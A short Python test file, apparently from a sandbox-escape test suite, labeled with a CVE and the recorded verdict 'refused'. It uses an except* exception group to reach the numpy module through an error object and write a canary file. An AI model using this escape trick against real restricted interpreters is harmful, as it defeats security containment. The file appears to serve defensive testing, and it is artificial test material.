# tries: CVE-2025-22153: a group's members read through except*
# verdict: refused
# contained: file
import numpy as np


def attend(query, key, pair):
    """Commas are resting places."""
    try:
        np.no_such_name
    except* AttributeError as group:
        group.exceptions[0].obj.savetxt("@CANARY@", [0.0])
    return pair.zeros()
